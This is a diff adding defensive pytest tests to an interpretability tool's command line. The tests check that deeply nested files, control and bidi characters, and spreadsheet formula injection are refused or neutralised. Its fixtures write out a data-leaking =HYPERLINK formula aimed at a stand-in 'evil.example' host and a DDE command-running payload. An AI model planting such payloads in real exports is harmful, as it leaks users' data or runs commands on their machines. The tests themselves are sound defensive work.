@@ -256,3 +256,130 @@ def test_a_partial_run_is_refused_unless_asked_for_and_then_flagged(tiny_run, tm
 
     with zipfile.ZipFile(tmp_path / "b.zip") as bundle:
         assert "ift" in json.loads(bundle.read("manifest.json"))["partial"]
+
+
+# ---------------------------------------------------------------- hostile input and inert output
+
+@pytest.mark.parametrize(("name", "data", "fragment"), [case[1:] for case in __import__("tests.hostile").hostile.CASES],
+                         ids=[case[0] for case in __import__("tests.hostile").hostile.CASES])
+def test_validate_refuses_each_hostile_file_in_one_line_per_problem(capsys, tmp_path, name, data, fragment):
+    path = tmp_path / name
+    path.write_bytes(data)
+    code, out, err = run(capsys, "concepts", "validate", str(path))
+    assert code == 2 and out == ""
+    lines = err.splitlines()
+    assert lines and all(line.startswith(f"error: {path}: ") for line in lines), lines
+    assert fragment in lines[0]
+
+
+@pytest.mark.parametrize("suffix", [".yaml", ".json"])
+def test_ten_thousand_levels_of_nesting_are_one_line_from_the_command(tmp_path, suffix):
+    path = tmp_path / f"deep{suffix}"
+    path.write_bytes(b"[" * 10_000 + b"]" * 10_000)
+    result = subprocess.run([sys.executable, "-m", "interp", "concepts", "validate", str(path)],
+                            capture_output=True, text=True, cwd=REPO, timeout=120)
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert result.stderr.splitlines() == [f"error: {path}: line 1: nested more than 32 levels deep; concept and lineage files need four"]
+    lineage = tmp_path / "deep-lineage.yaml"
+    lineage.write_bytes(b"- " * 10_000 + b"x\n")
+    result = subprocess.run([sys.executable, "-m", "interp", "extract", "--lineage", str(lineage), "--concepts",
+                             str(REPO / "concepts"), "--out", str(tmp_path / "out")],
+                            capture_output=True, text=True, cwd=REPO, timeout=120)
+    assert result.returncode == 2 and result.stderr.splitlines() == [
+        f"error: {lineage}: line 1: nested more than 32 levels deep; concept and lineage files need four"]
+
+
+def test_validate_says_when_text_was_normalised(capsys, tmp_path):
+    import unicodedata
+
+    path = tmp_path / "nfd.yaml"
+    text = unicodedata.normalize("NFD", "La créance échue est exigible.")
+    path.write_text(json.dumps({"set": "t", "sequences": [{"id": "c", "concept": "Condition", "text": text,
+                                                           "spans": [{"text": "créance échue"}]}]}), "utf-8")
+    code, out, _ = run(capsys, "concepts", "validate", str(path))
+    assert code == 0 and out == f"{path}: ok, set 't', 1 sequence(s) (1 normalised to Unicode NFC)\n"
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+
+
+@pytest.fixture(scope="module")
+def hostile_run(tmp_path_factory, tiny_checkpoint, tiny_checkpoint_other):
+    """Stages `x` and `y-x`, sequences `s` and `s-y` (so `s` + `y-x` and `s-y` + `x` name the same
+    file), concepts that a spreadsheet would run."""
+    from interp.lineage import Lineage, Stage
+    from interp.pipeline import extract_lineage
+    from interp.settings import ExtractionSettings
+    from tests.conftest import concept
+
+    lineage = Lineage("hostile", (Stage("x", str(tiny_checkpoint)), Stage("y-x", str(tiny_checkpoint_other))))
+    sequences = [
+        concept("s", "The lessee shall pay the rent within thirty days, unless the court orders otherwise.",
+                "within thirty days", concept_type=HYPERLINK),
+        concept("s-y", "The seller may not sell the goods before the hearing.", "may not sell the goods",
+                concept_type="@SUM(1+1)*cmd|' /C calc'!A0"),
+    ]
+    out = tmp_path_factory.mktemp("hostile") / "run"
+    extract_lineage(lineage, sequences, out, ExtractionSettings(device="cpu"))
+    return out
+
+
+@pytest.mark.slow
+def test_report_and_shares_csv_neutralise_formula_concepts(hostile_run, capsys):
+    assert main(["report", str(hostile_run), "--format", "csv", "--controls", "0"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert [row["concept"] for row in rows] == ["'" + HYPERLINK, "'@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert float(rows[0]["mean_share"]) > 0
+    assert main(["shares", str(hostile_run)]) == 0
+    shares = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert {row["concept"][0] for row in shares} == {"'"}
+    assert main(["report", str(hostile_run), "--format", "json", "--controls", "0"]) == 0
+    assert json.loads(capsys.readouterr().out)[0]["concept"] == HYPERLINK, "JSON keeps the text as it is"
+
+
+@pytest.mark.slow
+def test_report_table_prints_no_control_or_bidi_characters(tiny_run, capsys, monkeypatch):
+    import pandas as pd
+
+    from interp.output import CONTROL_CHARACTERS
+
+    hostile = pd.DataFrame({"sequence_id": ["a"], "concept": ["\x1b[2J\x1b[31mRole\u202eevil"], "mean": [0.5]})
+    monkeypatch.setattr("interp.report.report_table", lambda results: hostile)
+    assert main(["report", str(tiny_run[0]), "--format", "table"]) == 0
+    out = capsys.readouterr().out
+    assert "[2J[31mRoleevil" in out
+    assert not any(CONTROL_CHARACTERS.search(line) for line in out.splitlines())
+
+
+@pytest.mark.slow
+def test_export_keeps_every_figure_when_names_collide_and_prints_what_it_wrote(hostile_run, tmp_path, capsys,
+                                                                               no_chromium_here):
+    import zipfile
+
+    from interp.results import Results, Selection
+    from interp.views import bundle_contents
+
+    out = tmp_path / "bundle.zip"
+    assert main(["export", str(hostile_run), "--out", str(out), "--controls", "10"]) == 0
+    printed = capsys.readouterr().out.strip()
+    with zipfile.ZipFile(out) as bundle:
+        names = bundle.namelist()
+        stats = bundle.read("tables/overview-statistics.csv").decode()
+    figures = [n for n in names if n.startswith("figures/") and n.endswith(".html")]
+    tables = [n for n in names if n.startswith("tables/") and n.endswith(".csv")]
+    expected_figures, expected_tables = bundle_contents(Results(hostile_run, Selection(n_controls=10)))
+    assert printed == f"{out}: {len(figures)} figures, {len(tables)} tables"
+    assert (len(figures), len(tables)) == (len(expected_figures), len(expected_tables))
+    assert len({n.lower() for n in names}) == len(names)
+    # (s, y-x) and (s-y, x) both name "heads-share-s-y-x-vs-x": the second is kept beside the first.
+    assert {"figures/heads-share-s-y-x-vs-x.html", "figures/heads-share-s-y-x-vs-x-2.html"} <= set(names)
+    assert "'=HYPERLINK" in stats and "\n=HYPERLINK" not in stats and ",=HYPERLINK" not in stats
+
+
+@pytest.fixture()
+def no_chromium_here(monkeypatch):
+    """Export without images: fast, and the same on every machine."""
+    import interp.export as export
+
+    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
+    monkeypatch.setattr(export, "_shared", export.FigureExporter())
